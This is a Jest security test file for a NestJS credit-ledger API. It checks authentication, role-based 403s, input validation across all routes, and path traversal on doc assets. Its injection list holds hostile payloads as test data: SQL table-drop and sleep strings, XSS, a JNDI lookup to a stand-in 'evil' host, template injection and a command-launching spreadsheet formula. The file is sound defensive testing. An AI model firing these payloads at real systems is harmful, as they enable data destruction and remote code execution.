import { ModulesContainer } from '@nestjs/core';
import type { Role } from '@credit-ledger/config';
import { declaredFields } from '../apps/ledger/src/api/fields';
import { listRoutes, type RouteInfo } from '../apps/ledger/src/docs/routes';
import { KEYS, LedgerHarness } from './support/ledger-harness';
import { wire } from './support/wire';

const KEY_OF: Record<Role, string> = {
  reader: KEYS.reader,
  'sales-manager': KEYS.sales,
  'finance-clerk': KEYS.analyst,
  'finance-manager': KEYS.finance,
  cfo: KEYS.cfo,
  'general-manager': KEYS.gm,
  admin: KEYS.admin,
};
const ALL_ROLES = Object.keys(KEY_OF) as Role[];

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE ledger_events; --",
  '1; SELECT pg_sleep(5)',
  "x' UNION SELECT * FROM grade_policies --",
  '{"$ne":null}',
  '"},"creditLimit":"999999999","x":{"',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  "=cmd|' /C calc'!A0",
  'nul\u0000byte',
];

const PARAMS: Record<string, string> = {
  id: 'C-SEC',
  requestId: 'LR-SEC',
  orderId: 'O-SEC',
  name: 'overdue-scan',
};

function fillPath(path: string, override: Record<string, string> = {}): string {
  return path.replace(/:([A-Za-z]+)/g, (_, p: string) => encodeURIComponent(override[p] ?? PARAMS[p] ?? 'x'));
}

/** Every declared field at its documented example: the same declaration validation and the OpenAPI use. */
function validBody(dto: new () => object): Record<string, unknown> {
  return Object.fromEntries(declaredFields(dto).map((f) => [f.name, f.example]));
}

const PUBLIC = [
  'GET /docs',
  'GET /docs/assets/:file',
  'GET /health',
  'GET /health/live',
  'GET /health/ready',
];

/**
 * Every route the Nest router serves (enumerated at runtime, so a new route is covered without editing this
 * file): 401 without credentials, 403 for each role it does not allow, and injection strings or oversized values
 * in every field (body fields read from each route's body DTO, query parameters from its query DTO, and path
 * parameters) → 4xx naming the field, with nothing written anywhere.
 */
describe('API security', () => {
  let h: LedgerHarness;
  let routes: RouteInfo[];
  let publicRoutes: RouteInfo[];

  const counts = async () =>
    (
      await h.query(
        `SELECT (SELECT count(*) FROM ledger_events)::int AS ledger, (SELECT count(*) FROM grade_policies)::int AS policies,
                (SELECT count(*) FROM parked_events)::int AS parked, (SELECT count(*) FROM rejected_events)::int AS rejected`,
      )
    )[0];

  beforeAll(async () => {
    // Its own queue prefix: a request that wrongly got through must not enqueue jobs for anybody else.
    h = await LedgerHarness.start({
      clock: () => new Date('2026-06-15T12:00:00Z'),
      env: { QUEUE_PREFIX: `security-test-${process.pid}` },
    });
    await h.publish([
      wire('C-SEC', 'CustomerOnboarded', '2026-06-01T09:00:00Z', {
        name: 'Sec',
        currency: 'EUR',
        creditLimit: '100.00',
      }),
      wire('C-SEC', 'OrderPlaced', '2026-06-02T09:00:00Z', {
        orderId: 'O-SEC',
        amount: '500.00',
        currency: 'EUR',
      }),
    ]);
    await h.waitForIngestion();
    const all = listRoutes(h.app!.get(ModulesContainer));
    routes = all.filter((r) => !r.public);
    publicRoutes = all.filter((r) => r.public);
  });

  afterAll(async () => {
    await h?.stop();
  });

  it('finds the routes; only health and the explorer page are public; every route with a body declares it', () => {
    expect(routes.length).toBeGreaterThan(15);
    expect(publicRoutes.map((r) => `${r.method} ${r.path}`)).toEqual(PUBLIC);
    expect(routes.filter((r) => r.method !== 'GET' && r.body === null)).toEqual([]);
    expect(routes.map((r) => `${r.method} ${r.path}`)).toEqual(
      expect.arrayContaining([
        'POST /customers/:id/limit-requests',
        'POST /orders/:orderId/release',
        'POST /policy/proposals',
        'POST /policy/proposals/:proposalId/approve',
        'GET /docs/json',
      ]),
    );
  });

  it('answers 401 on every route without credentials or with an unknown key', async () => {
    const failures: string[] = [];
    for (const r of routes) {
      const path = fillPath(r.path);
      const body = r.method === 'GET' ? undefined : {};
      for (const key of [null, 'not-a-known-key-0123456789']) {
        const res = await h.send(r.method, path, body, key);
        if (res.status !== 401)
          failures.push(`${r.method} ${r.path} (${key ? 'bad key' : 'no key'}): ${res.status}`);
      }
    }
    expect(failures).toEqual([]);
  });

  it('answers 403 on every route for every role it does not allow', async () => {
    const failures: string[] = [];
    let checked = 0;
    for (const r of routes) {
      // A read ('reader') is open to every authenticated role: no wrong role exists.
      if (r.roles.includes('reader')) continue;
      for (const role of ALL_ROLES.filter((x) => !r.roles.includes(x))) {
        checked++;
        const res = await h.send(
          r.method,
          fillPath(r.path),
          r.method === 'GET' ? undefined : {},
          KEY_OF[role],
        );
        if (res.status !== 403) failures.push(`${r.method} ${r.path} as ${role}: ${res.status}`);
      }
    }
    expect(checked).toBeGreaterThan(20);
    expect(failures).toEqual([]);
  });

  it('refuses injection strings and oversized values in every string field with 4xx, writing nothing', async () => {
    const before = await counts();
    const failures: string[] = [];
    let checked = 0;
    const expect4xx = async (
      what: string,
      method: string,
      path: string,
      body: unknown,
      key: string | null,
      field?: string,
    ) => {
      checked++;
      const res = await h.send(method, path, body, key);
      const named =
        field === undefined || res.status === 413 || String(res.body?.message ?? '').includes(field);
      if (res.status < 400 || res.status >= 500 || !named)
        failures.push(`${what}: ${res.status} ${JSON.stringify(res.body).slice(0, 160)}`);
    };
    for (const r of [...routes, ...publicRoutes]) {
      const key = r.public ? null : KEY_OF[r.roles[0]];
      const hasBody = r.method !== 'GET';
      const base = r.body ? validBody(r.body) : {};
      // Path parameters.
      for (const p of [...r.path.matchAll(/:([A-Za-z]+)/g)].map((m) => m[1])) {
        for (const bad of [...INJECTIONS, 'x'.repeat(5000)]) {
          await expect4xx(
            `${r.method} ${r.path} :${p}=${bad.slice(0, 20)}`,
            r.method,
            fillPath(r.path, { [p]: bad }),
            hasBody ? base : undefined,
            key,
          );
        }
      }
      // Query parameters: the declared ones, one at a time.
      for (const f of r.query ? declaredFields(r.query).map((q) => q.name) : []) {
        for (const bad of [...INJECTIONS, 'q'.repeat(3000)]) {
          await expect4xx(
            `${r.method} ${r.path} ?${f}=${bad.slice(0, 20)}`,
            r.method,
            `${fillPath(r.path)}?${new URLSearchParams({ [f]: bad })}`,
            hasBody ? base : undefined,
            key,
            f,
          );
        }
      }
      if (!hasBody) continue;
      // Body fields: every one the body DTO declares (a route with a body always has one, see above).
      const fields = r.body ? declaredFields(r.body).map((f) => f.name) : ['reason'];
      for (const f of fields) {
        for (const bad of [...INJECTIONS, 'y'.repeat(10_000)]) {
          await expect4xx(
            `${r.method} ${r.path} ${f}=${bad.slice(0, 20)}`,
            r.method,
            fillPath(r.path),
            { ...base, [f]: bad },
            key,
            r.body ? f : undefined,
          );
        }
        // Over Fastify's 256 KiB body limit: 413 before any handler runs.
        await expect4xx(
          `${r.method} ${r.path} ${f} oversized`,
          r.method,
          fillPath(r.path),
          { ...base, [f]: 'z'.repeat(300 * 1024) },
          key,
        );
      }
      // Unknown fields (and injection in a field NAME) are refused when the body is declared.
      if (r.body) {
        for (const bad of ['extra', '__proto__x', '<script>', "' OR 1=1 --"]) {
          await expect4xx(
            `${r.method} ${r.path} unknown ${bad}`,
            r.method,
            fillPath(r.path),
            { ...base, [bad]: 'v' },
            key,
          );
        }
      }
      // Not JSON at all.
      await expect4xx(`${r.method} ${r.path} broken JSON`, r.method, fillPath(r.path), '{"reason": "x"', key);
    }
    expect(checked).toBeGreaterThan(300);
    expect(failures).toEqual([]);
    expect(await counts()).toEqual(before);
  });

  it('serves the OpenAPI document at /docs/json to authenticated callers, the explorer page to anyone', async () => {
    expect((await h.get('/docs/json', null)).status).toBe(401);
    const doc = await h.get('/docs/json');
    expect(doc.status).toBe(200);
    expect(doc.body.openapi).toMatch(/^3\.0\./);
    const op = doc.body.paths['/customers/{id}/limit-requests'].post;
    expect(op['x-roles']).toContain('finance-clerk');
    expect(op['x-roles']).not.toContain('admin');
    expect(op.requestBody.content['application/json'].schema.$ref).toBe(
      '#/components/schemas/LimitRequestBody',
    );
    expect(doc.body.components.schemas.LimitRequestBody.required).toEqual(['newLimit', 'reason']);
    const page = await h.get('/docs', null);
    expect(page.status).toBe(200);
    expect(page.body).toContain('swagger-ui-bundle.js');
    expect(page.body).not.toContain('limit-requests');
    expect((await h.get('/docs/assets/swagger-ui-bundle.js', null)).status).toBe(200);
    expect((await h.get('/docs/assets/..%2Fpackage.json', null)).status).toBe(404);
  });
});
